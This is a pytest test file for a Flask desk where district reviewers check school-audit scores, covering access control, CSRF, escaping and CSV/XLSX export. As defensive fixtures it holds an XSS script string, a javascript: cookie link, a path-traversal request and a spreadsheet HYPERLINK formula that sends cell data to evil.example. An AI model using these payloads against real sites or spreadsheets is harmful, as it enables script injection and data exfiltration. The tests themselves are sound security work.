"""The reviewers' desk against a real store filled by the real pipeline over simulated portals.

Four schools in two districts (one portal down), audited once per session into a template folder
that each test copies; users: an admin and reviewers of Dĩ An, Thủ Dầu Một and Bến Cát (no school).
"""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
from dataclasses import replace
from pathlib import Path
from typing import Any, Iterator

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from werkzeug.test import TestResponse

from audit.config import Settings
from audit.finals import final_scores
from audit.pipeline import audit_inline
from audit.review import create_app
from audit.review.passwords import hash_password
from audit.store import Store
from tests.conftest import SIM_SETTINGS

ROOT = Path(__file__).resolve().parents[1]
SHEET = ROOT / "audit" / "data" / "demo" / "self-scores.csv"
YEAR, BATCH, RUBRIC = "2021-2022", "2021-2022-phong", "tdm-2021-2022-school"
SCRIPT = "<script>window.__pwned=1</script>"
BAD_LINK = "javascript:alert(document.cookie)"
DI_AN, TDM = "Dĩ An", "Thủ Dầu Một"
PASSWORD = "mat-khau-du-dai-10"
USERS = {"quan-tri": ("admin", []), "di-an": ("reviewer", [DI_AN]), "tdm": ("reviewer", [TDM]),
         "ben-cat": ("reviewer", ["Bến Cát"])}
DOCUMENT: dict[str, Any] = {
            "file": "ke-hoach-cntt-2021.pdf", "sha256": "ab" * 32, "status": "parsed", "pages": 2, "doc_type": "KH",
            "number": "12/KH-THTĐ", "issued_on": "2021-09-15", "place": "Dĩ An",
            "issuer": "TRƯỜNG TIỂU HỌC TÂN ĐỊNH", "title": "Kế hoạch ứng dụng CNTT năm học 2021-2022",
            "signer": "Nguyễn Văn An", "school_year": "2021-2022", "text_source": "text", "criteria": ["4.1"],
            "flags": []}


def site_settings(folder: Path) -> Settings:
    """Settings of a desk whose store and data live in `folder`."""
    database = f"sqlite:///{(folder / 'audit.sqlite3').as_posix()}"
    return replace(SIM_SETTINGS, data_dir=folder / "var", database_url=database, secret_key="k" * 64)


def _schools(manifest: dict[str, Any]) -> dict[str, str]:
    healthy = [p for p in manifest if not manifest[p]["faults"]][:3]
    down = next(p for p in manifest if "down" in manifest[p]["faults"])
    return {"a": healthy[0], "b": healthy[1], "c": healthy[2], "down": down}


def _poison(store: Store, school_id: str) -> None:
    """A crawled post title carrying a script, and one evidence document, in the school's stored result."""
    run_id = store.start_run(school_id, YEAR, BATCH, batch_id=BATCH)
    result = store.last_result(school_id, YEAR, good_only=False)
    assert result is not None and result["posts"]["items"]
    result["posts"]["items"][0]["title"] = f"Thông báo {SCRIPT} lịch học"
    result["evidence"] = [dict(DOCUMENT)]
    next(c for c in result["criteria"] if c["status"] == "contradicted")["evidence"].append(BAD_LINK)
    store.save_result(run_id, result)


def build_site(folder: Path, manifest: dict[str, Any]) -> dict[str, str]:
    """Register the schools and users, audit every school with the real pipeline; the schools' ids by role."""
    ids = _schools(manifest)
    settings = site_settings(folder)
    places = {"a": (DI_AN, SHEET), "b": (DI_AN, None), "c": (TDM, SHEET), "down": (TDM, None)}
    with Store(settings) as store:
        for role, sid in ids.items():
            district, sheet = places[role]
            store.upsert_school(sid, manifest[sid]["name"], manifest[sid]["url"], RUBRIC, district,
                                str(sheet) if sheet else None)
        store.create_batch(BATCH, YEAR, list(ids.values()))
        for sid in ids.values():
            audit_inline(store, settings, sid, YEAR, BATCH)
        _poison(store, ids["a"])
        for name, (role, districts) in USERS.items():
            store.add_user(name, hash_password(PASSWORD), role, districts)
    (folder / "ids.json").write_text(json.dumps(ids), encoding="utf-8")
    return ids


def copy_site(base: Path, target: Path, manifest: dict[str, Any]) -> tuple[Settings, dict[str, str]]:
    """A private copy of the session's site (built the first time it is asked for)."""
    template = base / "review-site"
    if not (template / "ids.json").exists():
        shutil.rmtree(template, ignore_errors=True)
        build_site(template, manifest)
    shutil.copytree(template, target)
    return site_settings(target), json.loads((target / "ids.json").read_text(encoding="utf-8"))


def token(html: str) -> str:
    """The CSRF token of the page's first form."""
    found = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert found, "no CSRF token in the page"
    return found.group(1)


def login(client: FlaskClient, username: str, password: str = PASSWORD) -> TestResponse:
    """Log in through the form."""
    page = client.get("/login")
    return client.post("/login", data={"csrf_token": token(page.text), "username": username, "password": password})


def decide(client: FlaskClient, school_id: str, criterion_id: str, action: str, score: str = "",
           note: str = "") -> TestResponse:
    """Post a decision through the school page's form."""
    page = client.get(f"/batch/{BATCH}/school/{school_id}")
    return client.post(f"/batch/{BATCH}/school/{school_id}/decide",
                       data={"csrf_token": token(page.text), "criterion_id": criterion_id, "action": action,
                             "score": score, "note": note})


def csv_rows(body: bytes) -> list[list[str]]:
    """The rows of a downloaded CSV (BOM checked)."""
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def discrepancy(store: Store, school_id: str) -> dict[str, Any]:
    """The school's first contradicted criterion."""
    result = store.last_result(school_id, YEAR)
    assert result is not None
    return next(c for c in result["criteria"] if c["status"] == "contradicted")


class Site:
    """A desk over a private copy of the site."""

    def __init__(self, settings: Settings, ids: dict[str, str]) -> None:
        self.settings, self.ids = settings, ids
        self.store = Store(settings)
        self.app: Flask = create_app(settings, self.store)

    def client(self, username: str | None = None) -> FlaskClient:
        """A test client, logged in as `username` when given."""
        client = self.app.test_client()
        if username:
            assert login(client, username).status_code == 302
        return client


@pytest.fixture
def site(sim: Any, tmp_path_factory: pytest.TempPathFactory, tmp_path: Path) -> Iterator[Site]:
    _, manifest, _ = sim
    settings, ids = copy_site(tmp_path_factory.getbasetemp(), tmp_path / "site", manifest)
    s = Site(settings, ids)
    yield s
    s.store.close()


def test_batches_list_only_what_the_user_may_see(site: Site) -> None:
    admin = site.client("quan-tri").get("/")
    assert admin.status_code == 200 and BATCH in admin.text
    row = re.search(rf"{re.escape(BATCH)}</a>.*?</tr>", admin.text, re.S)
    assert row and re.findall(r'class="n">(\d+)', row.group(0))[:2] == ["4", "3"]  # 4 schools, 3 done
    assert "1 lỗi" in row.group(0)
    di_an = site.client("di-an").get("/")
    row = re.search(rf"{re.escape(BATCH)}</a>.*?</tr>", di_an.text, re.S)
    assert row and re.findall(r'class="n">(\d+)', row.group(0))[:2] == ["2", "2"]
    nobody = site.client("ben-cat")
    assert BATCH not in nobody.get("/").text
    assert nobody.get(f"/batch/{BATCH}").status_code == 404


def test_batch_page_shows_the_visible_schools_with_totals(site: Site) -> None:
    page = site.client("di-an").get(f"/batch/{BATCH}")
    assert page.status_code == 200
    for header in ("Quận/huyện", "Trường", "Tình trạng thu thập", "Tự chấm", "Đề xuất", "Số chênh lệch",
                   "Điểm cuối cùng", "Chưa quyết định"):
        assert f">{header}</th>" in page.text
    assert f"/school/{site.ids['a']}" in page.text and f"/school/{site.ids['b']}" in page.text
    assert site.ids["c"] not in page.text and site.ids["down"] not in page.text
    assert "chênh lệch</span>" in page.text and "chưa quyết định</span>" in page.text
    admin = site.client("quan-tri").get(f"/batch/{BATCH}")
    assert site.ids["down"] in admin.text and "Lỗi (không thu thập được)" in admin.text


def test_school_page_escapes_crawled_text_and_links_proof(site: Site) -> None:
    client = site.client("di-an")
    page = client.get(f"/batch/{BATCH}/school/{site.ids['a']}")
    assert page.status_code == 200 and '<html lang="vi">' in page.text
    assert SCRIPT not in page.text and "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in page.text
    for label in ("Điểm chuẩn", "Tự chấm", "Đề xuất", "Chênh lệch", "Lý do:", "Minh chứng:", "Điểm cuối cùng",
                  "Chấp nhận đề xuất", "Giữ tự chấm", "Cho điểm khác", "Lịch sử quyết định", "Văn bản minh chứng"):
        assert label in page.text
    crit = discrepancy(site.store, site.ids["a"])
    card = re.search(rf'<article class="crit diff" id="c-{re.escape(crit["id"])}">.*?</article>', page.text, re.S)
    assert card and "badge bad\">Chênh lệch" in card.group(0)
    assert str(DOCUMENT["title"]) in page.text and str(DOCUMENT["number"]) in page.text
    snapshots = sorted(set(re.findall(r'href="/snapshot/([0-9a-f]{64})"', page.text)))
    assert snapshots
    shots = [client.get(f"/snapshot/{sha}") for sha in snapshots]
    assert all(shot.status_code == 200 for shot in shots)
    assert all(shot.headers["Content-Security-Policy"].startswith("sandbox; default-src 'none'") for shot in shots)
    assert all(shot.headers["X-Content-Type-Options"] == "nosniff" for shot in shots)
    # pages are served as HTML; a proof that is a PDF file as plain bytes (never rendered)
    assert any(shot.content_type.startswith("text/html") for shot in shots)
    assert BAD_LINK in page.text and 'href="javascript' not in page.text
    schemes = re.findall(r'<a [^>]*href="([a-z]+):', page.text)
    assert schemes and set(schemes) == {"http"}  # links only to http(s) pages; the rest are this site's paths


def test_another_districts_school_is_404_everywhere(site: Site) -> None:
    client = site.client("di-an")
    other = site.ids["c"]
    assert client.get(f"/batch/{BATCH}/school/{other}").status_code == 404
    missing = client.get(f"/batch/{BATCH}/school/no-such-school")
    assert missing.status_code == 404
    page = client.get(f"/batch/{BATCH}/school/{site.ids['a']}")
    posted = client.post(f"/batch/{BATCH}/school/{other}/decide",
                         data={"csrf_token": token(page.text), "criterion_id": "3.1", "action": "set", "score": "1"})
    assert posted.status_code == 404 and site.store.decisions(other, YEAR) == []
    runs = {r["school"]["id"]: r["run_id"] for r in site.store.batch_results(BATCH)}
    mine = {p["sha256"] for sid in (site.ids["a"], site.ids["b"]) for p in site.store.pages(runs[sid])}
    theirs = next(p["sha256"] for p in site.store.pages(runs[other]) if p["sha256"] not in mine)
    assert client.get(f"/snapshot/{theirs}").status_code == 404
    assert site.client("tdm").get(f"/snapshot/{theirs}").status_code == 200
    assert client.get("/snapshot/" + "0" * 64).status_code == 404
    assert client.get("/snapshot/..%2F..%2Fsecret_key").status_code == 404
    assert client.get(f"/batch/{BATCH}/export.csv").data.count(other.encode()) == 0


def test_a_decision_is_validated_and_nothing_stored_on_error(site: Site) -> None:
    client = site.client("di-an")
    school = site.ids["a"]
    crit = discrepancy(site.store, school)
    too_high = decide(client, school, crit["id"], "set", str(crit["max"] + 1))
    assert too_high.status_code == 400 and f"Điểm phải từ 0 đến {crit['max']:g}." in too_high.text
    assert decide(client, school, crit["id"], "set", "năm").status_code == 400
    assert "Hãy chọn một quyết định." in decide(client, school, crit["id"], "").text
    result = site.store.last_result(school, YEAR)
    assert result is not None
    manual = next(c for c in result["criteria"] if c["proposed"] is None)
    refused = decide(client, school, manual["id"], "accept")
    assert refused.status_code == 400 and "chưa có điểm đề xuất" in refused.text
    assert site.store.decisions(school, YEAR) == []


def test_forged_decision_without_csrf_token_is_refused(site: Site) -> None:
    client = site.client("di-an")
    school = site.ids["a"]
    url = f"/batch/{BATCH}/school/{school}/decide"
    form = {"criterion_id": discrepancy(site.store, school)["id"], "action": "set", "score": "1"}
    assert client.post(url, data=form).status_code == 400
    assert client.post(url, data={**form, "csrf_token": "forged"}).status_code == 400
    assert site.store.decisions(school, YEAR) == []


def _export_row(rows: list[list[str]], school_id: str, criterion_id: str) -> dict[str, str]:
    header = rows[0]
    row = next(r for r in rows[1:] if r[1] == school_id and r[3] == criterion_id)
    return dict(zip(header, row))


def test_a_decision_changes_the_final_score_page_and_export(site: Site) -> None:
    client = site.client("di-an")
    school = site.ids["a"]
    crit = discrepancy(site.store, school)
    before = _export_row(csv_rows(client.get(f"/batch/{BATCH}/export.csv").data), school, crit["id"])
    assert before["Điểm cuối cùng"] == "" and before["Nguồn"] == "chưa quyết định"
    done = decide(client, school, crit["id"], "set", "2,5", "Thiếu mục Ban giám hiệu")
    assert done.status_code == 303 and done.headers["Location"].endswith(f"/school/{school}#c-{crit['id']}")
    page = client.get(f"/batch/{BATCH}/school/{school}")
    card = re.search(rf'id="c-{re.escape(crit["id"])}">.*?</article>', page.text, re.S)
    assert card and '<dd class="final">2,5<small>quyết định</small>' in card.group(0)
    assert "Đã lưu quyết định" in page.text and "Thiếu mục Ban giám hiệu" in page.text
    after = _export_row(csv_rows(client.get(f"/batch/{BATCH}/export.csv").data), school, crit["id"])
    assert (after["Điểm cuối cùng"], after["Nguồn"], after["Người quyết định"], after["Ghi chú"]) == (
        "2.5", "quyết định", "di-an", "Thiếu mục Ban giám hiệu")
    book = load_workbook(io.BytesIO(client.get(f"/batch/{BATCH}/export.xlsx").data))
    rows = [[c.value for c in r] for r in book["Điểm theo tiêu chí"].iter_rows()]
    xrow = next(r for r in rows if r[1] == school and r[3] == crit["id"])
    assert xrow[8] == 2.5 and xrow[9] == "quyết định"
    totals = {r[1].value: r for r in book["Tổng theo trường"].iter_rows(min_row=2)}
    assert set(totals) == {site.ids["a"], site.ids["b"]}


def test_history_is_append_only_and_the_newest_wins(site: Site) -> None:
    client = site.client("di-an")
    school = site.ids["a"]
    crit = discrepancy(site.store, school)
    assert decide(client, school, crit["id"], "accept", note="đồng ý").status_code == 303
    assert decide(client, school, crit["id"], "keep_self", note="trường có minh chứng giấy").status_code == 303
    history = site.store.decisions(school, YEAR)
    assert [(d["action"], d["user"]) for d in history] == [("accept", "di-an"), ("keep_self", "di-an")]
    page = client.get(f"/batch/{BATCH}/school/{school}")
    table = page.text.split('id="history"')[1]
    assert table.index("trường có minh chứng giấy") < table.index("đồng ý")  # newest first
    row = _export_row(csv_rows(client.get(f"/batch/{BATCH}/export.csv").data), school, crit["id"])
    assert float(row["Điểm cuối cùng"]) == crit["self"] and row["Ghi chú"] == "trường có minh chứng giấy"


def test_a_decision_survives_a_restart(site: Site) -> None:
    school = site.ids["a"]
    crit = discrepancy(site.store, school)
    assert decide(site.client("di-an"), school, crit["id"], "set", "1", "sau khởi động lại").status_code == 303
    site.store.close()
    with Store(site.settings) as again:
        app = create_app(site.settings, again)
        client = app.test_client()
        assert login(client, "quan-tri").status_code == 302
        page = client.get(f"/batch/{BATCH}/school/{school}")
        assert "sau khởi động lại" in page.text
        result = again.last_result(school, YEAR)
        assert result is not None
        finals = final_scores(result, again.latest_decisions(school, YEAR))
        assert finals["criteria"][crit["id"]] == {**finals["criteria"][crit["id"]], "final": 1.0, "source": "decision"}
    site.store = Store(site.settings)


def test_export_is_formula_safe_and_only_visible_schools(site: Site) -> None:
    client = site.client("di-an")
    school = site.ids["a"]
    crit = discrepancy(site.store, school)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"bấm")'
    assert decide(client, school, crit["id"], "set", "3", evil).status_code == 303
    response = client.get(f"/batch/{BATCH}/export.csv")
    assert response.headers["Content-Disposition"].startswith('attachment; filename="diem-cuoi-cung-')
    rows = csv_rows(response.data)
    assert {r[1] for r in rows[1:]} == {site.ids["a"], site.ids["b"]}
    assert _export_row(rows, school, crit["id"])["Ghi chú"] == "'" + evil
    book = load_workbook(io.BytesIO(client.get(f"/batch/{BATCH}/export.xlsx").data))
    cell = next(r[12] for r in book["Điểm theo tiêu chí"].iter_rows(min_row=2)
                if r[1].value == school and r[3].value == crit["id"])
    assert cell.value == evil and cell.data_type == "s"
    assert site.client("ben-cat").get(f"/batch/{BATCH}/export.xlsx").status_code == 404
